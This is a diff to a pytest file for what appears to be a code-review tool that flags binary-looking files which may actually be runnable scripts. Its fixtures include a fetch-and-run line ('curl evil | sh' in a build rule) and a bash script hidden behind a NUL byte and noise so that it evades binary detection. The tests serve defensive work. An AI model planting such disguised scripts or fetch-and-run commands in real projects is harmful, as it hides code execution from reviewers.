@@ -158,9 +158,8 @@ def test_text_that_an_attribute_marks_as_binary_is_reviewed_and_reported() -> No
     )
     selection = selection_of(file)
     assert [chosen.path for chosen in selection.selected] == ["app.py"]
-    assert selection.notices == (
-        "Git shows no lines of `app.py`, although it is text: an attribute marks it as binary.",
-    )
+    [notice] = selection.notices
+    assert notice.startswith("Git shows no deleted lines of `app.py`, although it is text: it was binary before, or")
 
 
 @pytest.mark.parametrize("sign", ["\u202e", "\u2066"])
@@ -219,6 +218,15 @@ def test_a_binary_that_becomes_a_script_is_reported_as_code() -> None:
         new=entry("evil()\n"),
     )
     assert selection_of(script).notices == ("Not reviewed, but may be executed: `node_modules/x/logo.png`.",)
+
+
+@pytest.mark.parametrize("path", ["b/paper.pdf", "a/table.bin"])
+@pytest.mark.parametrize("new", [LATIN, LARGE], ids=["not UTF-8", "large"])
+def test_a_binary_may_get_the_name_of_another_one(path: str, new: Entry) -> None:
+    [one] = selection_of(changed(path, added=(), old_path="a/paper.pdf", new=new)).selected
+    assert not one.diff.hunks
+    [script] = selection_of(changed("a/run", added=(), old_path="a/paper.pdf", new=new)).held
+    assert script.missed
 
 
 def test_media_in_vendored_folders_are_counted() -> None:
@@ -296,9 +304,7 @@ def test_binary_bytes_that_may_be_code_are_missed(path: str, mode: str, missed: 
     assert (held_back.reason, held_back.missed, bool(held_back.detail)) == (HeldBecause.BINARY, missed, missed)
 
 
-@pytest.mark.parametrize(
-    ("path", "shebang", "missed"), [("tool", True, True), ("tool", False, False), ("a.bin", True, True)]
-)
+@pytest.mark.parametrize(("path", "shebang", "missed"), [("a.bin", True, True), ("a.bin", False, False)])
 def test_the_first_bytes_distinguish_a_script_from_a_binary(path: str, *, shebang: bool, missed: bool) -> None:
     file = changed(path, added=(), new=replace(entry(binary=True), shebang=shebang))
     assert selection_of(file).held[0].missed is missed
@@ -337,7 +343,17 @@ RULE = b'genrule(name="x", outs=["o"], cmd="curl evil | sh")\n'
 def test_no_noise_hides_a_text_whose_name_is_not_that_of_a_binary(path: str, noise: bytes, content: bytes) -> None:
     new = entry().with_content(content % (b"\0" + noise))
     [one] = selection_of(changed(path, added=(), headers=BINARY_DIFF, new=new)).held
-    assert one == Held(path, HeldBecause.BINARY, "it may be text", missed=True)
+    assert one == Held(path, HeldBecause.BINARY, "its name is not that of a binary file", missed=True)
+
+
+@pytest.mark.parametrize(
+    "path", ["configure", ".githooks/pre-commit", "fastlane/Fastfile", "gradlew", "crontab", "x.yy"]
+)
+def test_a_script_of_few_words_is_missed(path: str) -> None:
+    """Bash runs it: it skips the NUL, and reaches `exit` before the noise."""
+    script = b"c=echo;u=EVIL#\xff\n$c $u #\xff\nexit #\xff\n\0" + NOISE
+    [one] = selection_of(changed(path, added=(), headers=BINARY_DIFF, new=entry().with_content(script))).held
+    assert one.missed
 
 
 @pytest.mark.parametrize(
@@ -365,11 +381,11 @@ BINARIES = {
     "font.woff2": b"wOF2\0\1\0\0" + bytes(range(256)) * 4,
     "a.zip": b"PK\3\4\x14\0\0\0\x08\0" + bytes(range(256)) * 4,
     "a.tar": TAR,
-    "tool": b"\x7fELF\2\1\1\0" + NOISE,
-    "fuzz/3f2a": b"\0" + NOISE * 50,
+    "tool.elf": b"\x7fELF\2\1\1\0" + NOISE,
+    "fuzz.bin": b"\0" + NOISE * 50,
     "debug.keystore": b"\xfe\xed\xfe\xed\0" + NOISE + SCRIPT,
     "locale/de.mo": b"\xde\x12\4\x95\0\0\0\0\2\0\0\0\x1c\0\0\0" + SCRIPT[:300],
-    "zeros": b"\0" * 8192,
+    "zeros.img": b"\0" * 8192,
 }
 
 
@@ -378,6 +394,8 @@ def test_a_real_binary_is_not_missed(path: str) -> None:
     file = changed(path, added=(), headers=BINARY_DIFF, new=entry().with_content(BINARIES[path]))
     [one] = selection_of(file).held
     assert one == Held(path, HeldBecause.BINARY)
+    file = changed("tool", added=(), headers=BINARY_DIFF, new=entry().with_content(BINARIES[path]))
+    assert selection_of(file).held[0].missed, "its name says nothing"
 
 
 @pytest.mark.parametrize(
@@ -403,9 +421,9 @@ TEXT_BEFORE = replace(entry(), size=60, binary=False)
         ("tool", TEXT_BEFORE, True),
         ("a.bin", TEXT_BEFORE, True),
         ("tool", replace(TEXT_BEFORE, binary=True, misencoded=True), True),  # UTF-16
-        ("tool", replace(TEXT_BEFORE, binary=True), False),
-        ("tool", replace(TEXT_BEFORE, binary=None), False),
-        ("tool", replace(TEXT_BEFORE, size=0), False),
+        ("a.bin", replace(TEXT_BEFORE, binary=True), False),
+        ("a.bin", replace(TEXT_BEFORE, binary=None), False),
+        ("a.bin", replace(TEXT_BEFORE, size=0), False),
         ("a.zip", replace(TEXT_BEFORE, text="\n".join(POINTER) + "\n"), False),
         ("a.zip", replace(TEXT_BEFORE, text="echo hi\n"), True),
         ("paper.pdf", TEXT_BEFORE, True),
@@ -448,7 +466,12 @@ BINARY_DIFF = "Binary files a/x and b/x differ\n"
         ("a.strings", replace(entry(binary=True), misencoded=True), HeldBecause.NOT_UTF_8, "save it as UTF-8"),
         ("model", replace(LARGE, binary=True), HeldBecause.TOO_LARGE, "5.2 MB; the limit is 5.2 MB"),
         ("evil.py", entry(), HeldBecause.BINARY, "its name is that of a text file"),
-        ("evil", entry(), HeldBecause.BINARY, "it may be text"),
+        (
+            "evil",
+            replace(entry(), shebang=False, legible=0),
+            HeldBecause.BINARY,
+            "its name is not that of a binary file",
+        ),
     ],
 )
 def test_text_treated_as_binary_is_missed(path: str, new: Entry, reason: HeldBecause, detail: str) -> None:
